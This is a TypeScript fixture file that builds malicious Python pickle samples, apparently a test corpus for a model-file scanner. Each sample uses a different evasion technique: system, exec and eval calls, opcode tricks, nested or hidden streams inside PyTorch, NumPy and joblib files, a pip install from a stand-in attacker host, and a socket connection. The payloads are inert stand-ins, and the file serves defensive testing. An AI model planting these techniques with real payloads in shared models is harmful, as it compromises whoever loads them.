import { gzipSync } from 'node:zlib';
import { zip } from '../../../fixtures/zip.ts';
import { base64, noise } from './bytes.ts';
import { call, framed, global, pickle, protocol, stackGlobal, stop, text } from './pickle.ts';
import { ofFamily } from './sample.ts';

/* What would be run only prints. */
const quiet = 'echo stand-in';
const print = 'print("stand-in")';

/** A header of NumPy's own format for an array of Python objects. */
function npy(body: Buffer): Buffer {
  const header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".padEnd(117);
  const length = Buffer.alloc(2);
  length.writeUInt16LE(header.length + 1);
  return Buffer.concat([
    Buffer.from('\x93NUMPY\x01\x00', 'latin1'),
    length,
    Buffer.from(`${header}\n`),
    body,
  ]);
}

/** Opcodes of protocol 0 up to the state dictionary of a model, with nothing but what models need. */
const tensors = Buffer.concat([global('collections', 'OrderedDict'), Buffer.from(')R')]);

function model(
  name: string,
  level: 'easy' | 'ordinary' | 'hard',
  technique: string,
  path: string,
  content: Buffer,
  expect: 'malicious' | 'suspicious' = 'malicious',
) {
  return { id: `pickle-${name}`, level, technique, files: { [path]: content }, expect, where: path };
}

export const samples = ofFamily('model-pickle', [
  model(
    'protocol-0',
    'easy',
    'os.system in protocol 0 (Slaviero 2011; T1204, T1059.006).',
    'models/a.pkl',
    Buffer.from(`cos\nsystem\n(S'${quiet}'\ntR.`),
  ),
  model(
    'protocol-2',
    'easy',
    'posix.system in protocol 2.',
    'models/b.bin',
    pickle(2, call(global('posix', 'system'), text(quiet))),
  ),
  model(
    'protocol-4',
    'easy',
    'builtins.exec by STACK_GLOBAL in a frame, protocol 4.',
    'models/c.pt',
    Buffer.concat([
      protocol(4),
      framed(Buffer.concat([call(stackGlobal('builtins', 'exec'), text(print)), stop])),
    ]),
  ),
  model(
    'inst',
    'ordinary',
    'INST of protocol 0 instead of REDUCE, which older scanners skip.',
    'models/d.dat',
    Buffer.from(`(S'${quiet}'\nios\nsystem\n.`),
  ),
  model(
    'obj',
    'ordinary',
    'OBJ: class and arguments from the mark on.',
    'models/e.ckpt',
    Buffer.concat([
      protocol(1),
      Buffer.from('('),
      global('subprocess', 'Popen'),
      text(quiet),
      Buffer.from('o.'),
    ]),
  ),
  model(
    'broken-after-payload',
    'ordinary',
    'Broken after the payload, so that whoever wants all of it sees nothing (nullifAI, ReversingLabs 2025).',
    'models/f.pkl',
    Buffer.concat([
      protocol(2),
      call(global('os', 'system'), text(quiet)),
      Buffer.from([0xff, 0xfe, 0xfd, 0x00]),
    ]),
  ),
  model(
    'second-stream',
    'ordinary',
    'An honest stream first, the payload in the second of the same file.',
    'models/g.pkl',
    Buffer.concat([protocol(2), tensors, stop, pickle(2, call(global('os', 'system'), text(quiet)))]),
  ),
  model(
    'memo-indirection',
    'hard',
    'Module and name wait in the memo for STACK_GLOBAL, in the wrong order.',
    'models/h.pkl',
    Buffer.concat([
      protocol(4),
      text('system'),
      Buffer.from([0x94]),
      Buffer.from('0'),
      text('posix'),
      Buffer.from([0x94]),
      Buffer.from('0'),
      Buffer.from('h\x01h\x00', 'latin1'),
      Buffer.from([0x93]),
      text(quiet),
      Buffer.from([0x85]),
      Buffer.from('R.'),
    ]),
  ),
  model(
    'getattr-chain',
    'hard',
    'Only names that look harmless: getattr of __import__ of os (Huang et al., Pain Pickle, 2022).',
    'models/i.pkl',
    pickle(
      2,
      call(
        call(
          global('builtins', 'getattr'),
          call(global('importlib', 'import_module'), text('os')),
          text('system'),
        ),
        text(quiet),
      ),
    ),
  ),
  model(
    'unusual-module',
    'hard',
    'A function of the standard library that nobody lists: pip.main, called with an index of the attacker (CVE-2025-1716).',
    'models/j.pkl',
    Buffer.concat([
      protocol(2),
      global('pip', 'main'),
      Buffer.from(']('),
      text('install'),
      text('git+https://git.example.invalid/x.git'),
      Buffer.from('e'),
      Buffer.from([0x85]),
      Buffer.from('R.'),
    ]),
  ),
  model(
    'runpy',
    'hard',
    'runpy runs a string as a module.',
    'models/k.pkl',
    pickle(2, call(global('runpy', '_run_code'), text(print), Buffer.from('}'))),
  ),
  model(
    'torch-zip',
    'easy',
    'A zip of PyTorch with a payload before the state dictionary (Hugging Face "baller423", JFrog 2024).',
    'root/.cache/huggingface/pytorch_model.bin',
    zip({
      'archive/data.pkl': pickle(
        2,
        call(global('builtins', 'exec'), text(`import os;os.system("${quiet}")`)),
        Buffer.from('0'),
        tensors,
      ),
      'archive/version': '3\n',
      'archive/data/0': noise('tensor', 2048),
    }),
  ),
  model(
    'torch-renamed-member',
    'hard',
    'The payload lies in a second pickle of the zip, under a name that is not data.pkl (CVE-2025-1944 family).',
    'srv/weights.pth',
    zip({
      'archive/data.pkl': pickle(2, tensors),
      'archive/extra/config.p': pickle(2, call(global('os', 'system'), text(quiet))),
      'archive/version': '3\n',
    }),
  ),
  model(
    'torch-legacy',
    'ordinary',
    'PyTorch before zip: magic number, version, system, and the payload in the fourth stream.',
    'srv/old.pth',
    Buffer.concat([
      pickle(2, Buffer.concat([Buffer.from([0x8a, 10]), Buffer.from('6cfc9c46f9206aa85019', 'hex')])),
      pickle(2, Buffer.from([0x4d, 0xe9, 0x03])),
      pickle(2, Buffer.from('}')),
      pickle(
        2,
        call(global('torch.serialization', '_open_file_like'), text('/nonexistent')),
        Buffer.from('0'),
        call(global('os', 'popen'), text(quiet)),
      ),
    ]),
  ),
  model(
    'numpy-object',
    'ordinary',
    'An array of objects: numpy loads its pickle (CVE-2019-6446).',
    'data/labels.npy',
    npy(pickle(3, call(global('os', 'system'), text(quiet)))),
  ),
  model(
    'joblib-gzip',
    'ordinary',
    "joblib, gzip'd: scikit-learn loads it without a word.",
    'models/clf.joblib',
    gzipSync(
      pickle(
        3,
        call(global('joblib.numpy_pickle', 'NumpyArrayWrapper')),
        Buffer.from('0'),
        call(global('builtins', 'eval'), text('print("stand-in")')),
      ),
    ),
  ),
  model(
    'numpy-eval-proxy',
    'hard',
    'eval by a function of numpy that ends in it (numpy.testing.rundocs family; scanners know builtins only).',
    'models/l.pkl',
    pickle(2, call(global('numpy.testing._private.utils', 'runstring'), text(print), Buffer.from('}'))),
  ),
  model(
    'nested',
    'hard',
    'A pickle in a pickle: loads of bytes in the first (T1027.009).',
    'models/m.pkl',
    pickle(
      3,
      call(
        global('_pickle', 'loads'),
        (() => {
          const inner = pickle(2, call(global('os', 'system'), text(quiet)));
          return Buffer.concat([Buffer.from(['C'.charCodeAt(0), inner.length]), inner]);
        })(),
      ),
    ),
  ),
  model(
    'base64-exec',
    'ordinary',
    'exec of base64 in protocol 5, as most reported models have it.',
    'models/n.pkl',
    Buffer.concat([
      protocol(5),
      framed(
        Buffer.concat([
          call(
            stackGlobal('builtins', 'exec'),
            text(`import base64;exec(base64.b64decode("${base64(print)}"))`),
          ),
          stop,
        ]),
      ),
    ]),
  ),
  model(
    'in-archive-renamed',
    'ordinary',
    'A pickle under a name of text, inside a zip beside honest files.',
    'data/assets.zip',
    zip({
      'readme.txt': 'assets\n',
      'notes.txt': pickle(2, call(global('socket', 'create_connection'), text('192.0.2.5'))),
    }),
  ),
]);
